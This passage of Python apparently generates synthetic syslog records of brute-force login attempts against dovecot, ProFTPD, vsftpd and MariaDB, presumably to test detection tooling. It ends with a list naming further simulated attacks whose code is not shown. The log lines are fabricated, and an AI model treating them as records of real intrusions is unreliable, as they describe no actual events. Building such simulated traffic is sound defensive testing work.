        tr.syslog(t + 2.5, "dovecot", f"imap-login: Disconnected: Connection closed (auth failed, 1 attempts in 3 "
                                      f"secs): user=<{user}>, method=PLAIN, rip={ip}, lip=10.0.0.5, TLS, "
                                      f"session=<{tr.rng.getrandbits(64):016x}>")


def ftp(tr: Traffic) -> None:
    ip = tr.attacker("ftp")
    t = _start(tr)
    for _ in range(15):
        t += tr.rng.uniform(2.0, 6.0)
        user = tr.rng.choice(["admin", "ftp", "root", "www-data", "anonymous", "web"])
        tr.syslog(t, "proftpd", f"web1 ({ip}[{ip}]) - USER {user} (Login failed): Incorrect password", tr.pid())
    ip = tr.attacker("ftp")                 # vsftpd on the second host, logging through syslog
    t = _start(tr)
    for _ in range(15):
        t += tr.rng.uniform(2.0, 6.0)
        user = tr.rng.choice(["admin", "ftpuser", "root", "test"])
        tr.syslog(t, "vsftpd", f'[{user}] FAIL LOGIN: Client "::ffff:{ip}"', tr.pid(), host="ftp2")


def mysql(tr: Traffic) -> None:
    ip = tr.attacker("mysql")
    t = _start(tr)
    for i in range(20):
        t += tr.rng.uniform(1.0, 4.0)
        ts = BASE + timedelta(seconds=t)
        tr.syslog(t, "mariadbd", f"{ts:%Y-%m-%d} {ts.hour:2d}:{ts:%M:%S} {1200 + i} [Warning] Access denied for user "
                                 f"'root'@'{ip}' (using password: YES)", 811)


ATTACKS = [log4shell, http_cve, w00tw00t, open_proxy, wp_config, bad_user_agents, sensitive_files, wordpress_bf,
           credential_stuffing, http_injection, http_404_scan, http_crawl, basic_auth_bf, slow_probes, sshd_bf,
           sshd_user_enum, postfix, dovecot, ftp, mysql]

